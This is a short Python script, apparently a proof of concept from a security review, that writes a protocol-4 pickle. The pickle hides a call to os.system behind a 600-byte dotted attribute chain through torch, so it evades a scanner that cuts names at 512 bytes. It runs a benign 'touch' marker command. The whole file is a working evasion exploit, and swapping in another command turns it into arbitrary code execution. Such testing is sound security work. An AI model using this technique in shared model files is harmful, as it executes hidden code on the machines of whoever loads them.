# Protocol-4 STACK_GLOBAL whose dotted name is a 600-byte attribute cycle through torch
# (torch.fft.torch.fft....) ending in .serialization.os.system. The scanner cuts names to 512
# bytes (walk/value.rs cut, MAX_NAME) before the dangerous-name search, so os.system is never seen.
import sys
out = sys.argv[1] if len(sys.argv) > 1 else "long_dotted.pkl"
name = "fft.torch." * 55 + "serialization.os.system"
def su(s):
    b = s.encode(); return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + len(b).to_bytes(4, "little") + b
cmd = "touch /tmp/review39/pwned_long_dotted"
p = b"\x80\x04" + su("torch") + su(name) + b"\x93" + su(cmd) + b"\x85R."
open(out, "wb").write(p)
print(len(name))
